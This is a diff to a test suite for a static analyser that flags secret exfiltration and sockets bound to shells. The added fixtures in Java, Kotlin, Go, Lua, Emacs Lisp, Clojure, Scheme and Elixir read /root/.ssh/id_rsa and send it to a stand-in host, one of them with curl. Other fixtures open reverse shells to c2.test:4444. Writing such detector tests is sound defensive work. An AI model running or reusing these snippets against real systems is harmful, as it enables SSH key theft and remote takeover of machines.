@@ -110,6 +110,96 @@ describe("a secret that reaches a request is a flow", () => {
       "own-key",
       [`key <- Sys.getenv("OTHER_API_KEY")`, `httr::POST("${TAKE}", body = list(key = key))`],
     ],
+    [
+      "A.java",
+      "ssh",
+      [
+        `String k = Files.readString(Path.of("/root/.ssh/id_rsa"));`,
+        `HttpURLConnection c = (HttpURLConnection) new URL("${TAKE}").openConnection();`,
+        "c.getOutputStream().write(k.getBytes());",
+      ],
+    ],
+    [
+      "A.java",
+      "ssh",
+      [
+        `var lines = new BufferedReader(new FileReader("/root/.ssh/id_rsa")), none = null;`,
+        `new URL("${TAKE}?k=" + lines.readLine()).openStream();`,
+      ],
+    ],
+    [
+      "a.kt",
+      "ssh",
+      [
+        `val c = URL("${TAKE}").openConnection() as HttpURLConnection`,
+        `c.outputStream.write(File("/root/.ssh/id_rsa").readBytes())`,
+      ],
+    ],
+    [
+      "a.kt",
+      "ssh",
+      [
+        `val c = URL("${TAKE}").openConnection()`,
+        `c.outputStream.use { it.write(File("/root/.ssh/id_rsa").readBytes()) }`,
+      ],
+    ],
+    [
+      "a.kt",
+      "ssh",
+      [
+        `val c = URL("${TAKE}").openConnection()`,
+        "c.outputStream.use {",
+        `  it.write(File("/root/.ssh/id_rsa").readBytes())`,
+        "}",
+      ],
+    ],
+    [
+      "a.go",
+      "ssh",
+      [
+        `b, _ := os.ReadFile("/root/.ssh/id_rsa")`,
+        `c, _ := net.Dial("tcp", "take.test:9")`,
+        `fmt.Fprintf(c, "%s", b)`,
+      ],
+    ],
+    [
+      "a.go",
+      "ssh",
+      [
+        `b, _ := os.ReadFile("/root/.ssh/id_rsa")`,
+        `r, _ := http.NewRequest("GET", "${TAKE}", nil)`,
+        `r.Header.Set("X", string(b))`,
+        "client.Do(r)",
+      ],
+    ],
+    [
+      "a.lua",
+      "ssh",
+      [
+        `local key = io.open("/root/.ssh/id_rsa"):read("*a")`,
+        `os.execute(string.format("curl -d '%s' ${TAKE}", key))`,
+      ],
+    ],
+    [
+      "a.el",
+      "ssh",
+      [
+        `(let ((key (with-temp-buffer (insert-file-contents "~/.ssh/id_rsa") (buffer-string)))) ; the "key`,
+        `  (url-retrieve (concat "${TAKE}?k=" key) #'ignore))`,
+      ],
+    ],
+    [
+      "a.el",
+      "ssh",
+      [`(setq key (shell-command-to-string "cat ~/.ssh/id_rsa"))`, `(url-retrieve (concat "${TAKE}" key))`],
+    ],
+    ["a.clj", "ssh", [`(let [key (slurp "/root/.ssh/id_rsa")]`, `  (client/post "${TAKE}" {:body key}))`]],
+    [
+      "a.scm",
+      "ssh",
+      [`(define key (call-with-input-file "/root/.ssh/id_rsa" f))`, `(http-post "${TAKE}" key)`],
+    ],
+    ["a.exs", "ssh", [`"/root/.ssh/id_rsa" |> File.read!() |> then(&HTTPoison.post("${TAKE}", &1))`]],
   ])("%s: %s of %j", (file, secret, lines) => {
     expect(trace(file, ...lines)).toContain(`${secret} to take.test`);
   });
@@ -136,6 +226,24 @@ describe("a shell that is bound to a connection is seen", () => {
         `shell := exec.Command("/bin/sh")`,
         "shell.Stdin = link",
         "shell.Stdout = link",
+      ],
+    ],
+    [
+      "a.go",
+      [
+        `link, _ := net.Dial("tcp", "c2.test:4444")`,
+        `for { line, _ := bufio.NewReader(link).ReadString('\\n'); exec.Command("sh", "-c", line).Run() }`,
+      ],
+    ],
+    ["a.rb", [`s = TCPSocket.open("c2.test", 4444)`, `exec sprintf("/bin/sh -i <&%d >&%d", s, s)`]],
+    [
+      "A.java",
+      [
+        `Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();`,
+        `Socket s = new Socket("c2.test", 4444);`,
+        "OutputStream out = p.getOutputStream(), back = s.getOutputStream();",
+        "InputStream in = s.getInputStream();",
+        "while (!s.isClosed()) out.write(in.read());",
       ],
     ],
   ])("%s: %j", (file, lines) => {
@@ -165,6 +273,8 @@ describe("ordinary programs give no flow", () => {
     ],
     ["a.pl", [`push @rings, "$ENV{HOME}/.gnupg/trustedkeys.gpg";`]],
     ["a.lua", [`local size = #list -- eval(get("${LOAD}"))`, "return load"]],
+    ["a.clj", [`(def page (slurp "${LOAD}"))`, "(println page)"]],
+    ["a.el", [`; (eval (url-retrieve "${LOAD}"))`, `#| (eval (url-retrieve "${LOAD}")) |#`]],
     ["a.rb", [`key = ENV["HOME"]`, `Net::HTTP.post(URI("${TAKE}"), key)`]],
   ])("%s: %j", (file, lines) => {
     expect(trace(file, ...lines)).toEqual([]);
@@ -187,6 +297,8 @@ test("no text makes it throw", () => {
     "\n",
   ])
     expect(trace("a.rb", `eval x\n${piece.repeat(20_000)}`)).toEqual([]);
+  for (const piece of ["(", "(let ((", "#|", `"\\`, "(a ", ")", "[a"])
+    expect(trace("a.el", `(eval x)\n${piece.repeat(200_000)}`)).toEqual([]);
   fc.assert(
     fc.property(fc.string({ unit: "binary" }), (text) => {
       expect(Array.isArray(trace("a.php", `eval(x)\n${text}`))).toBe(true);
